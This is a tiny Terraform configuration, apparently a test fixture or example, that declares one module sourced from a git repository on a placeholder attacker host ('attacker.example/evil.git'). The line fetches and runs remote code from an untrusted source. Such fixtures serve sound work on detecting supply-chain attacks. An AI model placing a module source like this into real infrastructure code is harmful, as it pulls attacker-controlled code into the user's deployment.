module "m" {
  source = "git::https://attacker.example/evil.git?ref=v1"
}
